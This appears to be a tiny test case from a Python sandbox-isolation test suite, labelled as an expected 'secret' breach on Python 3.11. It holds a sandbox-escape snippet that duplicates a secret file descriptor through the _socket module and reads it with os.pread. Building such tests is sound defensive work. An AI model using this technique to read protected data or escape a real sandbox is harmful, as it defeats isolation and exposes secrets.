# On 3.11 _socket is in the main interpreter from the start, and was not adopted in a session.
# breach: secret
# only: 3.11
import asyncio, os, sys
os.pread(sys.modules["_socket"].dup(SECRET_FD), 100, 0)
